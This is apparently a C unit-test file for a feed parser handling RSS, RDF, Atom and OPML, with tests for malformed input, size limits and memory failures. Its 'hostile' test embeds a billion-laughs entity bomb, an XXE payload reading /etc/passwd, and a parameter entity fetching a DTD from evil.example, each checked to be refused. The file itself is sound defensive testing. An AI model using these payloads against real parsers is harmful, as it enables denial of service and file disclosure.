/*
 * test_feed.c: the feed parser (feed.c): RSS 2.0, RSS 1.0 (RDF), Atom and
 * OPML documents to items and feed lists; broken and hostile documents
 * (entity expansion, external entities, deep nesting, size limits) give a
 * clear error; out of memory at every allocation leaks nothing.
 */
#include <stdlib.h>
#include <string.h>

#include "feed.h"
#include "harness.h"
#include "mem.h"
#include "parallax.h"
#include "testutil.h"

static const char RSS[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	"<rss version=\"2.0\" "
	"xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" "
	"xmlns:dc=\"http://purl.org/dc/elements/1.1/\" "
	"xmlns:atom=\"http://www.w3.org/2005/Atom\">\n"
	"<channel><title>The Tessby Courier</title>\n"
	"<atom:link href=\"http://courier.example/feed\" rel=\"self\"/>\n"
	"<link>http://courier.example/</link>\n"
	"<item><title>Varn river &amp; flood defences</title>\n"
	"<link>/news/varn-flood</link>\n"
	"<guid isPermaLink=\"false\">tc-101</guid>\n"
	"<pubDate>Tue, 03 Mar 2026 08:15:00 +0100</pubDate>\n"
	"<dc:creator>Ilse Brandt</dc:creator>\n"
	"<description>Short &lt;b&gt;teaser&lt;/b&gt;</description>\n"
	"<content:encoded><![CDATA[<p>Full text of the "
	"caf\xC3\xA9 story.</p>]]></content:encoded></item>\n"
	"<item><title>No link here</title><guid>http://courier.example/p/2"
	"</guid><description>Plain</description></item>\n"
	"<item><description>untitled, unlinked</description></item>\n"
	"</channel></rss>\n";

TEST(rss2)
{
	plx_feed *f = NULL;
	char msg[200];
	int rc = plx_feed_parse(RSS, strlen(RSS),
				"http://courier.example/feed.xml", &f, msg,
				sizeof msg);
	CHECK(rc == PLX_OK);
	if (rc) {
		fprintf(stderr, "  %s\n", msg);
		return;
	}
	CHECK(f->kind == PLX_FEED_RSS);
	CHECK_STR(f->title, "The Tessby Courier");
	CHECK_STR(f->link, "http://courier.example/");
	CHECK(f->n_items == 3);
	const plx_feed_item *it = &f->items[0];
	CHECK_STR(it->title, "Varn river & flood defences");
	CHECK_STR(it->link, "http://courier.example/news/varn-flood");
	CHECK_STR(it->guid, "tc-101");
	CHECK_STR(it->date, "Tue, 03 Mar 2026 08:15:00 +0100");
	CHECK_STR(it->author, "Ilse Brandt");
	CHECK_STR(it->summary,
		  "<p>Full text of the caf\xC3\xA9 story.</p>"); /* content
								    wins */
	/* a permalink guid stands for the link */
	CHECK_STR(f->items[1].link, "http://courier.example/p/2");
	CHECK_STR(f->items[1].summary, "Plain");
	CHECK(f->items[2].title == NULL && f->items[2].link == NULL);
	CHECK(f->n_feeds == 0 && f->dropped == 0);
	plx_feed_free(f);
}

TEST(rdf)
{
	static const char doc[] =
		"<?xml version=\"1.0\"?>\n"
		"<rdf:RDF "
		"xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" "
		"xmlns=\"http://purl.org/rss/1.0/\" "
		"xmlns:dc=\"http://purl.org/dc/elements/1.1/\">\n"
		"<channel rdf:about=\"http://ledger.example/\"><title>Ledger"
		"</title><link>http://ledger.example/</link></channel>\n"
		"<item rdf:about=\"http://ledger.example/a1\"><title>Rate cut"
		"</title><link>http://ledger.example/a1</link>"
		"<dc:date>2026-03-04T10:00:00Z</dc:date>"
		"<description>The bank cut rates.</description></item>\n"
		"<item rdf:about=\"http://ledger.example/a2\"><title>Second"
		"</title><link>http://ledger.example/a2</link></item>\n"
		"</rdf:RDF>\n";
	plx_feed *f = NULL;
	CHECK(plx_feed_parse(doc, strlen(doc), NULL, &f, NULL, 0) == PLX_OK);
	if (!f)
		return;
	CHECK(f->kind == PLX_FEED_RDF);
	CHECK_STR(f->title, "Ledger");
	CHECK(f->n_items == 2);
	CHECK_STR(f->items[0].guid, "http://ledger.example/a1");
	CHECK_STR(f->items[0].date, "2026-03-04T10:00:00Z");
	CHECK_STR(f->items[0].summary, "The bank cut rates.");
	CHECK_STR(f->items[1].link, "http://ledger.example/a2");
	plx_feed_free(f);
}

TEST(atom)
{
	static const char doc[] =
		"<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
		"<feed xmlns=\"http://www.w3.org/2005/Atom\" "
		"xml:base=\"http://cup.example/blog/\">\n"
		"<title type=\"html\">Northern &lt;i&gt;Cup&lt;/i&gt; "
		"Notes</title>\n"
		"<link rel=\"self\" href=\"http://cup.example/atom\"/>\n"
		"<link href=\"http://cup.example/\"/>\n"
		"<entry><id>tag:cup.example,2026:1</id>"
		"<title>Kestrel Vale win</title>"
		"<link rel=\"enclosure\" href=\"audio.mp3\"/>"
		"<link rel=\"alternate\" href=\"final-report\"/>"
		"<updated>2026-03-05T22:00:00Z</updated>"
		"<published>2026-03-05T21:30:00Z</published>"
		"<author><name>Tom Reyes</name></author>"
		"<summary>Short.</summary>"
		"<content type=\"html\">&lt;p&gt;Long.&lt;/p&gt;</content>"
		"</entry>\n"
		"<entry><id>tag:cup.example,2026:2</id><title>Only "
		"updated</title><updated>2026-03-06T09:00:00Z</updated>"
		"<summary>S2</summary></entry>\n"
		"</feed>\n";
	plx_feed *f = NULL;
	CHECK(plx_feed_parse(doc, strlen(doc), "http://cup.example/atom", &f,
			     NULL, 0) == PLX_OK);
	if (!f)
		return;
	CHECK(f->kind == PLX_FEED_ATOM);
	CHECK_STR(f->title, "Northern Cup Notes");
	CHECK_STR(f->link, "http://cup.example/");
	CHECK(f->n_items == 2);
	CHECK_STR(f->items[0].guid, "tag:cup.example,2026:1");
	CHECK_STR(f->items[0].link, "http://cup.example/blog/final-report");
	CHECK_STR(f->items[0].date, "2026-03-05T21:30:00Z");
	CHECK_STR(f->items[0].author, "Tom Reyes");
	CHECK_STR(f->items[0].summary, "<p>Long.</p>");
	CHECK_STR(f->items[1].date, "2026-03-06T09:00:00Z");
	CHECK_STR(f->items[1].summary, "S2");
	CHECK(f->items[1].link == NULL);
	plx_feed_free(f);
}

TEST(opml)
{
	static const char doc[] =
		"<?xml version=\"1.0\"?>\n<opml version=\"2.0\"><head>"
		"<title>My feeds</title></head><body>\n"
		"<outline text=\"News\">\n"
		"  <outline text=\"A\" type=\"rss\" "
		"xmlUrl=\"http://a.example/rss\"/>\n"
		"  <outline text=\"B\" type=\"rss\" xmlUrl=\"b/atom.xml\"/>\n"
		"  <outline text=\"A again\" "
		"xmlUrl=\"http://a.example/rss\"/>\n"
		"</outline><outline text=\"no url\"/></body></opml>\n";
	plx_feed *f = NULL;
	CHECK(plx_feed_parse(doc, strlen(doc), "http://dir.example/list.opml",
			     &f, NULL, 0) == PLX_OK);
	if (!f)
		return;
	CHECK(f->kind == PLX_FEED_OPML);
	CHECK_STR(f->title, "My feeds");
	CHECK(f->n_feeds == 2 && f->n_items == 0);
	if (f->n_feeds == 2) {
		CHECK_STR(f->feeds[0], "http://a.example/rss");
		CHECK_STR(f->feeds[1], "http://dir.example/b/atom.xml");
	}
	plx_feed_free(f);
}

/* Parses doc and expects status want with a message containing part. */
static void expect_error(const char *doc, size_t len, int want,
			 const char *part)
{
	plx_feed *f = (plx_feed *)1;
	char msg[300];
	int rc = plx_feed_parse(doc, len, "http://x.example/f", &f, msg,
				sizeof msg);
	CHECK(rc == want);
	CHECK(f == NULL);
	CHECK(strstr(msg, part) != NULL);
	if (rc != want || !strstr(msg, part))
		fprintf(stderr, "  rc %d, message: %s\n", rc, msg);
}

TEST(broken)
{
	static const char trunc[] =
		"<?xml version=\"1.0\"?>\n<rss><channel><title>T</title>\n"
		"<item><title>cut here";
	expect_error(trunc, strlen(trunc), PLX_EFORMAT, "broken XML");
	expect_error(trunc, strlen(trunc), PLX_EFORMAT, "line 3");
	static const char garbage[] = "\x01\x02 this is not XML <<<";
	expect_error(garbage, strlen(garbage), PLX_EFORMAT, "broken XML");
	static const char html[] = "<html><body><p>hello</p></body></html>";
	expect_error(html, strlen(html), PLX_EFORMAT,
		     "not a feed: root "
		     "element <html>");
	expect_error("", 0, PLX_EFORMAT, "empty");
	static const char undef[] = "<rss><channel><title>&nbsp;</title>"
				    "</channel></rss>";
	expect_error(undef, strlen(undef), PLX_EFORMAT, "nbsp");
}

TEST(hostile)
{
	/* billion laughs: refused at the first declaration */
	static const char laughs[] =
		"<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n"
		"<!ENTITY a \"lollollollollollollollollollol\">\n"
		"<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\n"
		"<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\n"
		"<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">\n"
		"<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">\n"
		"<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\n"
		"<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">\n"
		"<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">\n"
		"<!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">\n"
		"]>\n<rss><channel><title>&i;</title><item><title>&i;</title>"
		"</item></channel></rss>\n";
	expect_error(laughs, strlen(laughs), PLX_EFORMAT,
		     "declares an entity (line 3)");
	/* external entity: never read */
	static const char xxe[] =
		"<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM "
		"\"file:///etc/passwd\">]>\n<rss><channel><title>&x;</title>"
		"</channel></rss>";
	expect_error(xxe, strlen(xxe), PLX_EFORMAT, "declares an entity");
	/* parameter entity */
	static const char pe[] =
		"<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil.example/"
		"x.dtd\"> %p;]><rss/>";
	expect_error(pe, strlen(pe), PLX_EFORMAT, "declares an entity");
	/* an external DTD is not loaded, and a doctype alone is harmless */
	static const char dtd[] =
		"<?xml version=\"1.0\"?>\n<!DOCTYPE rss PUBLIC \"-//Netscape "
		"Communications//DTD RSS 0.91//EN\" \"http://my.netscape.com/"
		"publish/formats/rss-0.91.dtd\">\n<rss version=\"0.91\">"
		"<channel><title>Old</title><item><title>x</title><link>"
		"http://o.example/1</link></item></channel></rss>";
	plx_feed *f = NULL;
	CHECK(plx_feed_parse(dtd, strlen(dtd), NULL, &f, NULL, 0) == PLX_OK);
	CHECK(f && f->n_items == 1);
	plx_feed_free(f);

	/* deep nesting: libxml2's depth limit, an error, no stack overflow */
	size_t depth = 100000;
	char *deep = malloc(depth * 7 + 64);
	size_t n = (size_t)sprintf(deep, "<rss><channel>");
	for (size_t i = 0; i < depth; i++)
		n += (size_t)sprintf(deep + n, "<a>");
	expect_error(deep, n, PLX_EFORMAT, "broken XML");
	free(deep);

	/* over the size limit: refused before parsing */
	size_t big = PLX_FEED_MAX_BYTES + 1;
	char *huge = malloc(big);
	memset(huge, ' ', big);
	memcpy(huge, "<rss>", 5);
	expect_error(huge, big, PLX_ETOOBIG, "over the limit");
	free(huge);
}

TEST(many_items)
{
	size_t want = PLX_FEED_MAX_ITEMS + 5;
	plx_buf b;
	plx_buf_init(&b);
	plx_buf_puts(&b, "<rss><channel><title>Many</title>");
	for (size_t i = 0; i < want; i++)
		plx_buf_printf(&b, "<item><guid>g%zu</guid></item>", i);
	plx_buf_puts(&b, "</channel></rss>");
	CHECK(b.rc == PLX_OK);
	plx_feed *f = NULL;
	CHECK(plx_feed_parse(b.data, b.len, NULL, &f, NULL, 0) == PLX_OK);
	CHECK(f && f->n_items == PLX_FEED_MAX_ITEMS && f->dropped == 5);
	plx_feed_free(f);
	plx_buf_free(&b);

	/* a huge title is cut at a character boundary */
	plx_buf_init(&b);
	plx_buf_puts(&b, "<rss><channel><title>");
	for (int i = 0; i < 3000; i++)
		plx_buf_puts(&b, "\xC3\xA9");
	plx_buf_puts(&b, "</title></channel></rss>");
	CHECK(plx_feed_parse(b.data, b.len, NULL, &f, NULL, 0) == PLX_OK);
	CHECK(f && f->title && strlen(f->title) == PLX_FEED_MAX_META);
	plx_feed_free(f);
	plx_buf_free(&b);

	/* a huge item: its summary is cut to the limit */
	plx_buf_init(&b);
	plx_buf_puts(&b, "<rss><channel><item><title>Big</title><description>");
	for (size_t i = 0; i < 3 * PLX_FEED_MAX_SUMMARY / 10; i++)
		plx_buf_puts(&b, "lorem ips ");
	plx_buf_puts(&b, "</description></item></channel></rss>");
	CHECK(plx_feed_parse(b.data, b.len, NULL, &f, NULL, 0) == PLX_OK);
	CHECK(f && f->n_items == 1 && f->items[0].summary &&
	      strlen(f->items[0].summary) <= PLX_FEED_MAX_SUMMARY);
	plx_feed_free(f);
	plx_buf_free(&b);
}

TEST(text)
{
	char *t = NULL;
	size_t n = 0;
	static const char h[] =
		"<p>First  para\n graph.</p><p>Second <b>bold</b>.</p>"
		"<script>var x = 1;</script>Tail<br>line";
	CHECK(plx_feed_text(h, strlen(h), &t, &n) == PLX_OK);
	CHECK_STR(t, "First para graph.\n\nSecond bold.\n\nTail\n\nline");
	CHECK(t && n == strlen(t));
	plx_free(t);
	CHECK(plx_feed_text("Just text", 9, &t, &n) == PLX_OK);
	CHECK_STR(t, "Just text");
	plx_free(t);
	CHECK(plx_feed_text("<p> </p>", 8, &t, &n) == PLX_EEMPTY);
	CHECK(t == NULL);
	CHECK(plx_feed_text("", 0, &t, &n) == PLX_EEMPTY);
}

TEST(oom)
{
	plx_allocator a = {t_malloc, t_realloc, t_free, NULL};
	plx_set_allocator(&a);
	int ok = 0;
	long n;
	for (n = 0; n < 100000 && !ok; n++) {
		countdown = n;
		plx_feed *f = NULL;
		int rc = plx_feed_parse(RSS, strlen(RSS), "http://c.example/",
					&f, NULL, 0);
		if (rc == PLX_OK) {
			ok = 1;
			CHECK(f->n_items == 3);
		} else {
			CHECK(rc == PLX_ENOMEM && f == NULL);
		}
		plx_feed_free(f);
	}
	countdown = -1;
	plx_set_allocator(NULL);
	CHECK(ok);
	fprintf(stderr, "  %ld failure points\n", n);
}

int main(void)
{
	RUN(rss2);
	RUN(rdf);
	RUN(atom);
	RUN(opml);
	RUN(broken);
	RUN(hostile);
	RUN(many_items);
	RUN(text);
	RUN(oom);
	DONE();
}
